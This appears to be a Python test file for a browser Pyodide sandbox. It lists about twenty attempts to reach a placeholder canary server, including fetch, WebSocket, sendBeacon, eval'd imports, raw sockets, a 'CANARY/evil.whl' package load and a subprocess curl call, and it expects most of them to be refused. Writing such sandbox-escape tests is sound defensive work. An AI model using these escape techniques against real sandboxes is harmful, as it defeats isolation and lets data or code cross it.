"""Attempts to reach a server. The proof is the server's: it hears nothing."""

from hostile.attack import Attack


def refused(name: str, code: str, shows: str) -> Attack:
    """An attempt that ends in an exception, which the cell prints."""
    body = "\n".join(f"    {line}" for line in code.strip().splitlines())
    return Attack(
        name,
        f"try:\n{body}\nexcept Exception as error:\n    print('refused', type(error).__name__)",
        shows=shows,
    )


NETWORK = [
    Attack("fetch", "import js\njs.fetch('CANARY/fetch')\nprint('asked')", shows="asked"),
    refused("xhr", "import js\njs.XMLHttpRequest.new().open('GET', 'CANARY/xhr')", "refused AttributeError"),
    refused(
        "websocket",
        "import js\njs.WebSocket.new('CANARY/ws'.replace('http', 'ws'))",
        "refused AttributeError",
    ),
    refused("event-source", "import js\njs.EventSource.new('CANARY/events')", "refused AttributeError"),
    refused("beacon", "import js\njs.navigator.sendBeacon('CANARY/beacon', 'x')", "refused AttributeError"),
    refused("web-transport", "import js\njs.WebTransport.new('CANARY')", "refused AttributeError"),
    refused("peer-connection", "import js\njs.RTCPeerConnection.new()", "refused AttributeError"),
    refused("import-scripts", "import js\njs.importScripts('CANARY/script.js')", "refused AttributeError"),
    refused("nested-worker", "import js\njs.Worker.new('CANARY/worker.js')", "refused AttributeError"),
    refused("eval", "import js\njs.eval(\"import('CANARY/module.js')\")", "refused JsException"),
    refused(
        "new-function",
        "import js\njs.Function.new(\"return import('CANARY/function.js')\")()",
        "refused JsException",
    ),
    Attack(
        "timer-with-text",
        "import js\njs.setTimeout(\"import('CANARY/timer.js')\", 0)\nprint('asked')",
        shows="asked",
    ),
    refused("urllib", "import urllib.request\nurllib.request.urlopen('CANARY/urllib', timeout=2)", "refused"),
    refused(
        "socket",
        "import socket\nhost, port = 'CANARY'.split('//')[1].split(':')\n"
        "socket.create_connection((host, int(port)), timeout=2).sendall(b'hello')",
        "refused",
    ),
    refused("open-url", "import pyodide.http\npyodide.http.open_url('CANARY/open-url')", "refused"),
    Attack(
        "pyfetch",
        "import asyncio, pyodide.http\nasyncio.ensure_future(pyodide.http.pyfetch('CANARY/pyfetch'))\nprint('asked')",
        shows="asked",
    ),
    Attack(
        "load-package",
        "import pyodide_js\npyodide_js.loadPackage('CANARY/evil.whl')\nprint('asked')",
        shows="asked",
    ),
    Attack(
        "lazy-file",
        "import pyodide_js\npyodide_js.FS.createLazyFile('/', 'lazy', 'CANARY/lazy', True, False)\nopen('/lazy').read()",
        ends="failed",
        shows="started anew",
    ),
    refused(
        "location",
        "import js\njs.location.href = 'CANARY/location'\njs.self.location.assign('CANARY/assign')",
        "refused",
    ),
    refused(
        "subprocess",
        "import subprocess\nsubprocess.run(['curl', 'CANARY/curl'], check=True)",
        "refused",
    ),
]
